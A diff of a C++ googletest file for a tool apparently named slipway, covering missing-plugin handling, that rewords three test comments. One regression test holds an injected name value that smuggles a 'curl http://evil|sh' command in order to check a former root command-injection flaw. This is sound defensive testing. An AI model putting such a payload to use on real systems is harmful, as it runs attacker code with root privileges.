@@ -36,7 +36,7 @@ class MissingPlugin : public ::testing::Test {
   ScratchHost host;
 };
 
-// Earlier a boot stopped at the first line: no component of the machine was checked.
+// Before the fix, a boot stopped at the first line: no component of the machine was checked.
 TEST_F(MissingPlugin, FailsItsComponentAtABootAndTheOthersContinue) {
   lose("guest.so");
   remove_bystander_file();
@@ -65,7 +65,7 @@ TEST_F(MissingPlugin, IsReportedByEachCommandThatLooks) {
               AllOf(HasSubstr("no installed plugin has the component guest"), Not(HasSubstr("is left to do"))));
 }
 
-// Only the plugin can check its own action: earlier verify and doctor ended before the first finding.
+// Only the plugin can check its own action: before the fix, verify and doctor ended before the first finding.
 TEST_F(MissingPlugin, WithACustomActionDoesNotStopVerify) {
   host.live = true;  // an image leaves such an action to its boot
   host.spec("    probe: {custom: works, marker: " + host.folder().at("marker").string() + "}\n    guest: {}\n");
@@ -166,7 +166,7 @@ TEST_F(MissingPlugin, DoesNotExcuseAnUnknownName) {
   EXPECT_THAT(plan.err, HasSubstr("unknown component 'bystandr'; did you mean 'bystander'?"));
 }
 
-// Earlier the creator of a root could add a command to the one that slipway advises root to run.
+// Before the fix, the creator of a root could add a command to the one that slipway advises root to run.
 TEST_F(MissingPlugin, WithAnInvalidNameIsADamagedRecord) {
   const std::string name = "x`; curl http://evil|sh #";
   Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
